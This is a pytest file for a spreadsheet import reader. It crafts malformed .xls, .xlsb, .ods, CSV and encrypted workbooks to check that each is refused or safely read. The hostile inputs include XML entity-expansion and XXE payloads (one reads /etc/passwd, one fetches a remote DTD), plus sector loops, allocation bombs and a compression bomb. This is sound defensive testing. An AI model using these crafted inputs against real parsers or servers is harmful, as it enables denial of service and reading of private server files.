"""Files that are built to exhaust memory or time, to read other files, or to end the worker: each is refused.

Before, only .xlsx was meant to be opened; an .xlsb file passed the checks and ended the import with KeyError, and a
damaged archive ended it with zlib.error. What "the library" does was measured with python-calamine 0.9.1 alone.
"""

import functools
import io
import random
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import msoffcrypto
import pytest

from jatan.intake.registers.workbook.reader import open_workbook
from jatan.kernel.problems import Problem
from tests import yardstick
from tests.intake.registers.workbook.saved_register import DATA, ROWS, binary_workbook, delimited, record
from tests.intake.registers.workbooks import meeting, meetings
from tests.yardstick import times_the_yardstick

_MOST_CPU = 200  # times the yardstick, where the costliest took 50


def _outcome(path: Path, password: str = "") -> str:
    """ "read", or the code of the refusal. Any other error, and a reader that takes long, fails the test.

    A yardstick around each of hundreds of files took ten times as long as reading them: it is measured anew only for a
    file that seems to take too long.
    """
    began = time.process_time()
    outcome = _read(path, password)
    if time.process_time() - began >= _MOST_CPU * _yardstick():
        assert times_the_yardstick(lambda: _read(path, password)) < _MOST_CPU
    return outcome


@functools.cache
def _yardstick() -> float:
    """CPU seconds of the yardstick, once for all files."""
    return yardstick.seconds(3)


def _read(path: Path, password: str) -> str:
    try:
        with open_workbook(path, password=password) as book:
            for name in book.names:
                book.merged(name)
                for _row in book.rows(name):
                    pass
        return "read"
    except Problem as refused:
        return refused.code


def _file(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


def _patched(name: str, at: int, new: bytes) -> bytes:
    content = bytearray((DATA / name).read_bytes())
    content[at : at + len(new)] = new
    return bytes(content)


def _first_fat_sector(content: bytes) -> int:
    """Offset of the table of chains of an .xls file with sectors of 512 bytes."""
    return (struct.unpack_from("<I", content, 76)[0] + 1) * 512


def _find_record(content: bytes, kind: int) -> int:
    """Offset of the data of the first record of a type in an .xls file whose stream lies in one piece."""
    at = content.index(struct.pack("<HHH", 0x809, 16, 0x600))
    while True:
        found, length = struct.unpack_from("<HH", content, at)
        if found == kind:
            return at + 4
        at += 4 + length


# --- .xls ---


@pytest.mark.parametrize("start_at", [48, 60], ids=["the directory", "the small streams"])
def test_a_chain_of_sectors_that_returns_to_itself_is_not_followed(tmp_path: Path, start_at: int) -> None:
    """The reader's library follows the directory's chain for ever: two gigabytes, then it ends the process."""
    whole = (DATA / "register.xls").read_bytes()
    (sector,) = struct.unpack_from("<I", whole, start_at)
    loop = _patched("register.xls", _first_fat_sector(whole) + 4 * sector, struct.pack("<I", sector))
    assert _outcome(_file(tmp_path / "a.xls", loop)) == "dangerous_workbook"


def test_a_table_of_tables_that_returns_to_itself_is_not_followed(tmp_path: Path) -> None:
    """The header names the sector of the next table. The library ends the process at four gigabytes."""
    loop = bytearray((DATA / "register.xls").read_bytes())
    loop[68:72] = struct.pack("<I", 2)
    loop[512 * 4 - 4 : 512 * 4] = struct.pack("<I", 2)
    assert _outcome(_file(tmp_path / "a.xls", bytes(loop))) == "dangerous_workbook"


@pytest.mark.parametrize("fat_sectors", [0x7FFFFFFF, 0xFFFFFFFF])
def test_a_false_number_of_tables_is_not_believed(tmp_path: Path, fat_sectors: int) -> None:
    """Tables are read until the number is reached."""
    content = _patched("register.xls", 44, struct.pack("<I", fat_sectors))
    assert _outcome(_file(tmp_path / "a.xls", content)) == "dangerous_workbook"


def test_a_stream_larger_than_the_file_is_refused(tmp_path: Path) -> None:
    """The library reserves the stated size: four gigabytes."""
    name = "Workbook".encode("utf-16-le")
    at = (DATA / "register.xls").read_bytes().index(name)
    content = _patched("register.xls", at + 120, b"\xff\xff\xff\x7f")
    assert _outcome(_file(tmp_path / "a.xls", content)) == "dangerous_workbook"


def test_a_false_extent_of_an_old_sheet_is_refused(tmp_path: Path) -> None:
    """The library reserves a place for every cell of the stated extent, and ends the process when it gets none."""
    at = _find_record((DATA / "register.xls").read_bytes(), 0x200)
    content = _patched("register.xls", at + 4, b"\xff\xff\xff\xff")
    assert _outcome(_file(tmp_path / "a.xls", content)) == "dangerous_workbook"


def test_a_false_number_of_shared_texts_is_refused(tmp_path: Path) -> None:
    """The library reserves a place for every text."""
    at = _find_record((DATA / "register.xls").read_bytes(), 0xFC)
    content = _patched("register.xls", at + 4, b"\xff\xff\xff\x7f")
    assert _outcome(_file(tmp_path / "a.xls", content)) == "dangerous_workbook"


def test_two_distant_cells_of_an_old_sheet_are_refused(tmp_path: Path) -> None:
    """The library allocates all cells between them: 65,536 rows of 256 columns."""
    content = (DATA / "register.xls").read_bytes()
    last = content.rindex(struct.pack("<HH", 0x27E, 10))  # a number
    far = content[: last + 4] + b"\xff\xff\xff\x00" + content[last + 8 :]
    assert _outcome(_file(tmp_path / "a.xls", far)) == "workbook_too_large"


# --- .xlsb ---


def _far_cell(row: int, column: int) -> bytes:
    cells = record(0, struct.pack("<I", 0) + bytes(21)) + record(5, struct.pack("<IId", 0, 0, 1.0))
    cells += record(0, struct.pack("<I", row) + bytes(21)) + record(5, struct.pack("<IId", column, 0, 1.0))
    return record(129) + record(148, bytes(16)) + record(145) + cells + record(146) + record(130)


@pytest.mark.parametrize(
    ("row", "column", "code"),
    [
        (1_048_575, 16_383, "workbook_too_large"),
        (0xFFFFFFFF, 0, "dangerous_workbook"),
        (0, 0x7FFFFFFF, "dangerous_workbook"),
        (4, 3, "read"),
    ],
)
def test_two_distant_cells_of_a_binary_sheet_are_refused(tmp_path: Path, row: int, column: int, code: str) -> None:
    """The library allocates all cells between them, 550 gigabytes, and ends the process when it gets none."""
    assert _outcome(binary_workbook(tmp_path / "a.xlsb", _far_cell(row, column))) == code


def test_a_record_longer_than_its_part_is_refused(tmp_path: Path) -> None:
    """The library reads over the end."""
    assert _outcome(binary_workbook(tmp_path / "a.xlsb", _far_cell(1, 1) + b"\x05\xff\xff\xff\x7f")) == "not_a_workbook"


# --- .ods ---

_HEAD = (
    '<?xml version="1.0"?>{doctype}<office:document-content xmlns:office="o" xmlns:table="t" xmlns:text="x">'
    "<office:body><office:spreadsheet>{tables}</office:spreadsheet></office:body></office:document-content>"
)
_CELL = '<table:table-cell {times} office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def _open_document(path: Path, tables: str, doctype: str = "", **parts: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", _HEAD.format(doctype=doctype, tables=tables))
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _table(cells: str, times: str = "") -> str:
    return f'<table:table table:name="A"><table:table-row {times}>{cells}</table:table-row></table:table>'


def test_a_row_that_stands_there_a_million_times_is_refused(tmp_path: Path) -> None:
    """One kilobyte would become a million rows."""
    table = _table(_CELL.format(times="", text="x"), 'table:number-rows-repeated="1048576"')
    assert _outcome(_open_document(tmp_path / "a.ods", table)) == "dangerous_workbook"


def test_many_rows_that_stand_there_often_are_refused(tmp_path: Path) -> None:
    """Each below the limit, all together above it."""
    row = f'<table:table-row table:number-rows-repeated="4000">{_CELL.format(times="", text="x")}</table:table-row>'
    table = f'<table:table table:name="A">{row * 500}</table:table>'
    assert _outcome(_open_document(tmp_path / "a.ods", table)) == "dangerous_workbook"


def test_a_cell_that_stands_there_a_million_times_is_cut(tmp_path: Path) -> None:
    """Cells beyond the 256th column are not kept, in no format."""
    cells = _CELL.format(times='table:number-columns-repeated="999999999"', text="x") * 3
    with open_workbook(_open_document(tmp_path / "a.ods", _table(cells))) as book:
        assert [len(row) for row in book.rows("A")] == [256]


def test_blank_rows_without_end_are_cut(tmp_path: Path) -> None:
    """LibreOffice itself writes a million blank rows below every table, before a remark in the last row."""
    blank = '<table:table-row table:number-rows-repeated="1048575"><table:table-cell/></table:table-row>'
    last = f"<table:table-row>{_CELL.format(times='', text='x')}</table:table-row>"
    path = _open_document(tmp_path / "a.ods", f'<table:table table:name="A">{blank}{last}</table:table>')
    with open_workbook(path) as book:
        rows = list(book.rows("A"))
    assert (len(rows) < 1000, rows[-1]) == (True, ["x"])


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>',
        '<!DOCTYPE a [<!ENTITY c SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY % c SYSTEM "http://192.0.2.1/x.dtd">%c;]>',
    ],
)
def test_entities_of_an_open_document_are_refused(tmp_path: Path, doctype: str) -> None:
    """They would multiply, or fetch a file of the server."""
    table = _table(_CELL.format(times="", text="&amp;" if "%" in doctype else "&c;"))
    assert _outcome(_open_document(tmp_path / "a.ods", table, doctype)) == "dangerous_workbook"


def test_spaces_without_end_are_cut(tmp_path: Path) -> None:
    """A cell says how many spaces stand in it."""
    cell = '<table:table-cell><text:p>a<text:s text:c="2000000000"/>b</text:p></table:table-cell>'
    assert _outcome(_open_document(tmp_path / "a.ods", _table(cell))) == "read"


def test_more_sheets_than_an_office_has_are_refused(tmp_path: Path) -> None:
    """Each sheet of a large workbook is read on its own."""
    assert _outcome(_open_document(tmp_path / "a.ods", _table("") * 5000)) == "dangerous_workbook"


def test_a_bomb_in_an_open_document_is_not_opened(tmp_path: Path) -> None:
    """Fifty megabytes of blanks in fifty kilobytes."""
    assert _outcome(_open_document(tmp_path / "a.ods", " " * 50_000_000)) == "dangerous_workbook"


# --- text ---


@pytest.mark.parametrize(
    "content",
    [b"a,b\n" + b"," * 3_000_000, b"a,b\n" + b'"\n",' * 200_000, b"a,b\n1,2\n" + b"x" * 2_000_000],
    ids=["a line of commas", "a row of many lines", "a line of one cell"],
)
def test_a_line_without_end_is_refused(tmp_path: Path, content: bytes) -> None:
    """A row is kept in memory as a whole."""
    assert _outcome(_file(tmp_path / "a.csv", content)) == "dangerous_workbook"


def test_a_cell_without_end_is_refused(tmp_path: Path) -> None:
    """A quotation mark that is never closed makes one cell of the whole rest."""
    content = b'a,b\n1,2\n"' + b"some words\n" * 50_000
    assert _outcome(_file(tmp_path / "a.csv", content)) == "dangerous_workbook"


# --- passwords ---


def _encrypted(path: Path, password: str) -> bytes:
    out = io.BytesIO()
    with meetings(path, meeting(1)).open("rb") as file:
        msoffcrypto.OfficeFile(file).encrypt(password, out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("old", "new"),
    [(b'spinCount="100000"', b'spinCount="999999"'), (b"<encryption ", b"<!DOCTYPE a>")],
    ids=["repetitions", "a document type"],
)
def test_a_description_of_the_encryption_that_costs_much_is_refused(tmp_path: Path, old: bytes, new: bytes) -> None:
    """Ten times the digests of Excel for each attempt, or entities in the description."""
    content = _encrypted(tmp_path / "a.xlsx", "secret")
    assert content.count(old) == 1
    assert _outcome(_file(tmp_path / "b.xlsx", content.replace(old, new)), "secret") == "dangerous_workbook"


# --- any damage ---

_SAMPLES: dict[str, Callable[[], bytes]] = {
    "register.xls": (DATA / "register.xls").read_bytes,
    "register.ods": (DATA / "register.ods").read_bytes,
    "base.xlsb": (DATA / "base.xlsb").read_bytes,
    "register.csv": lambda: delimited(ROWS).encode("utf-16"),
    "password.xls": (DATA / "password.xls").read_bytes,
}


@pytest.mark.parametrize("name", _SAMPLES)
def test_a_file_cut_anywhere_is_read_or_refused(tmp_path: Path, name: str) -> None:
    """An upload that broke off. The library panics over some of these, which ends a Python process."""
    whole = _SAMPLES[name]()
    for part in range(1, 24):
        assert _outcome(_file(tmp_path / name, whole[: len(whole) * part // 24]), "1234")


@pytest.mark.parametrize("name", _SAMPLES)
def test_a_file_with_false_bytes_is_read_or_refused(
    tmp_path: Path, name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    """Numbers at random places replaced by the largest and the smallest, inside the parts of an archive, too."""
    whole = _SAMPLES[name]()
    rng = random.Random(name)  # the same damage in every run
    for _damage in range(40):
        assert _outcome(_file(tmp_path / name, _damaged(whole, rng)), "1234")
    assert "Basia" not in capfd.readouterr().err  # what the library prints quotes no cell


def _damaged(content: bytes, rng: random.Random) -> bytes:
    if not content.startswith(b"PK"):
        return _with_false_bytes(content, rng)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as whole, zipfile.ZipFile(out, "w") as archive:
        chosen = rng.choice([part for part in whole.namelist() if part.endswith((".bin", "content.xml"))])
        for part in whole.namelist():
            data = whole.read(part)
            archive.writestr(part, _with_false_bytes(data, rng) if part == chosen else data)
    return out.getvalue()


def _with_false_bytes(content: bytes, rng: random.Random) -> bytes:
    changed = bytearray(content)
    for _place in range(rng.randint(1, 3)):
        at = rng.randrange(len(changed))
        changed[at : at + 4] = rng.choice([b"\xff\xff\xff\xff", b"\xff\xff\xff\x7f", b"\x00\x00\x00\x00", b"\x80"])
    return bytes(changed)
